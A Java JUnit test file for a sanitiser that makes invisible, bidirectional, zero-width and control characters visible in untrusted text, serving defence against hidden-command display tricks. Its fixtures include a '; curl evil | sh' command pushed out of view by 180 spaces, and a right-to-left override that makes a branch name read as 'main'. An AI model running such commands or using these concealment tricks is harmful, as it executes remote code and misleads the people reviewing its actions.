package dev.pushgate.types;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;

class UntrustedTextVisibleTest {
  @Test
  void aLineSeparatorCannotFakeASecondLine() {
    assertThat(UntrustedText.visible("gh pr create\u2028approved: yes\u2029"))
        .isEqualTo("gh pr create\\u2028approved: yes\\u2029");
  }

  @Test
  void bidirectionalMarksCannotMakeARefReadAsMain() {
    // "refs/heads/niam" drawn right to left reads as "main" on a terminal that honours RLO.
    assertThat(UntrustedText.visible("refs/heads/\u202eniam")).isEqualTo("refs/heads/\\u202eniam");
    assertThat(UntrustedText.visible("\u2067x\u2069\u200e\u200f\u061c"))
        .isEqualTo("\\u2067x\\u2069\\u200e\\u200f\\u061c");
  }

  @Test
  void zeroWidthAndInvisibleCharactersAreShown() {
    assertThat(UntrustedText.visible("ma\u200bin\u200c\u200d\u2060\ufeff\u00ad\u3164\ufe0f"))
        .isEqualTo("ma\\u200bin\\u200c\\u200d\\u2060\\ufeff\\xad\\u3164\\ufe0f");
  }

  @Test
  void spacesOtherThanTheSpaceAndEveryControlAreShown() {
    assertThat(UntrustedText.visible("a\u00a0b\u2003c\u3000d\te\r\u001b[2K\u007f\u0085"))
        .isEqualTo("a\\xa0b\\u2003c\\u3000d\\x09e\\x0d\\x1b[2K\\x7f\\x85");
  }

  @Test
  void aLongRunOfSpacesCannotPushTheRestOutOfSight() {
    assertThat(UntrustedText.visible("gh pr create --fill" + " ".repeat(180) + "; curl evil | sh"))
        .isEqualTo("gh pr create --fill[180 spaces]; curl evil | sh");
    assertThat(UntrustedText.visible("a       b")).isEqualTo("a       b");
  }

  @Test
  void charactersBeyondTheBasicPlaneAreShownWhenInvisible() {
    assertThat(UntrustedText.visible("x\udb80\udc00y\ud83d\ude00\ud800"))
        .isEqualTo("x\\U000f0000y\ud83d\ude00\\ud800");
  }

  @Test
  void ordinaryTextOfAnyScriptIsLeftAlone() {
    String text = "git commit -m 'Grüße, 日本語, عربي, café' && ls -la ~/src";
    assertThat(UntrustedText.visible(text)).isEqualTo(text);
    assertThat(UntrustedText.visible(null)).isNull();
  }

  @Test
  void aLineOfAFileKeepsItsIndentationAndNothingElse() {
    assertThat(UntrustedText.visibleLine("\t        return x;")).isEqualTo("\t        return x;");
    assertThat(UntrustedText.visibleLine("  ok();" + " ".repeat(120) + "evil();\t\u202e"))
        .isEqualTo("  ok();[120 spaces]evil();\\x09\\u202e");
    assertThat(UntrustedText.visibleLine(null)).isNull();
  }
}
